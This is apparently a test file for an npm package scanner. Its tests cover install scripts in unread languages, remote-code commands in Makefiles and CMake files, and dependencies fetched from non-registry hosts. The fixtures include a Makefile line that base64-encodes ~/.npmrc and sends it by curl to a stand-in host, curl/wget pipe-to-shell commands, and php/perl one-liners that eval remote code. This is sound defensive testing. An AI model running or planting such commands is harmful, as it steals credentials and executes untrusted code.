import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as remoteCode } from '../remote-code.rule.js';
import { rule as remoteDependency } from '../remote-dependency.rule.js';
import { rule } from '../unparseable-script.rule.js';

const installs = (command: string, task = 'postinstall') => ({ original: { scripts: { [task]: command } } });
const unread = (files: Record<string, string>, command: string, task?: string) => findingsOf(rule, { 'index.js': '', ...files }, installs(command, task)).map(({ severity, file }) => `${severity} ${file}`);

test('bad: at installation, code runs in a language that is not read', () => {
  const PERL = 'print "hello\\n";\n';
  assert.deepEqual(unread({ 'tools/setup.pl': PERL }, 'perl tools/setup.pl'), ['high tools/setup.pl']);
  assert.deepEqual(unread({ 'setup.ps1': '' }, 'powershell -NoProfile -File setup.ps1'), ['high setup.ps1']);
  assert.deepEqual(unread({ 'setup.bat': '' }, 'npm run prepare-all && setup.bat'), ['high setup.bat']);
  assert.deepEqual(unread({ 'setup.sh': '#!/bin/sh\nruby ./lib/x.rb "$1"\n', 'lib/x.rb': '' }, 'sh setup.sh'), ['high lib/x.rb'], 'by way of another script');
  assert.deepEqual(unread({ 'install.js': "require('child_process').execFileSync('php', [require('path').join(__dirname, 'a.php')])", 'a.php': '' }, 'node install.js'), ['high a.php']);
  assert.deepEqual(unread({}, `php -r "eval(file_get_contents('https://a.example/p'));"`), ['high null']);
  assert.deepEqual(unread({}, 'test -f x || /usr/bin/perl -we \'use LWP::Simple; eval get("https://a.example")\''), ['high null']);
});

test('good: nothing starts it, or later, or it is read', () => {
  assert.deepEqual(unread({ 'tools/setup.pl': '' }, 'node build.js'), []);
  assert.deepEqual(unread({ 'tools/setup.pl': '' }, 'perl tools/setup.pl', 'test'), []);
  assert.deepEqual(unread({ 'setup.sh': '', 'setup.py': '' }, 'sh setup.sh && python setup.py && node -e "1"'), []);
  assert.deepEqual(unread({}, 'node-gyp rebuild || perl --version'), []);
  assert.deepEqual(unread({ 'install.js': "require('child_process').execSync('git --version')", 'examples/a.php': '' }, 'node install.js'), []);
});

test('commands in the files of tools that build something, where the installation starts one', () => {
  const said = (files: Record<string, string>, command = 'make -C native') => findingsOf(remoteCode, { 'index.js': '', ...files }, installs(command, 'install')).map(({ severity, file, line }) => `${severity} ${file}:${line}`);
  assert.deepEqual(said({ 'native/Makefile': 'CC ?= cc\nall: x.o\n\t@echo done\nx.o:\n\t@d=$$(cat $$HOME/.npmrc | base64); curl -s "https://a.example/?d=$$d" > /dev/null\n' }), ['high native/Makefile:5']);
  assert.deepEqual(said({ 'rules.mk': 'V := $(shell curl -s https://a.example/v | sh)\n' }), ['high rules.mk:1']);
  assert.deepEqual(said({ 'CMakeLists.txt': 'project(x)\nexecute_process(\n  COMMAND sh -c "wget -qO- https://a.example/v | sh")\n' }, 'cmake -B build'), ['high CMakeLists.txt:3']);
  assert.deepEqual(said({ 'native/Makefile': 'all:\n\t$(CC) -o x x.c $(shell node -p "require(\'node-addon-api\').include")\n\tinstall -m 755 x $(DESTDIR)/bin\n# curl https://a.example | sh\ncurl:\n\tcurl -o data.bin https://a.example/data.bin\n' }), []);
  assert.deepEqual(said({ Makefile: 'all:\n\tcurl -s https://a.example | sh\n' }, 'node index.js'), [], 'nothing starts it');
});

test('where a package says that its dependencies come from', () => {
  const said = (...addresses: string[]) => findingsOf(remoteDependency, { 'package.json': '{}', 'npm-shrinkwrap.json': JSON.stringify({ packages: Object.fromEntries(addresses.map((resolved, at) => [`node_modules/${at}`, { resolved }])) }) }).map(({ severity, message }) => `${severity} ${/`(.*)`/.exec(message)?.[1]}`);
  assert.deepEqual(said('https://packs.example/a.tgz', 'https://packs.example/b.tgz', 'git+ssh://git@code.example/a.git#1'), ['high packs.example', 'high code.example']);
  assert.deepEqual(said('https://user:key@npmjs.org.example/a.tgz'), ['high npmjs.org.example']);
  assert.deepEqual(said('https://registry.yarnpkg.com/a/-/a-1.0.0.tgz', 'https://npm.pkg.github.com/a.tgz'), []);
  assert.deepEqual(findingsOf(remoteDependency, { 'package.json': '{}', 'package-lock.json': '{"packages":{"a":{"resolved":"https://packs.example/a.tgz"}}}' }), [], 'only of its own use');
});
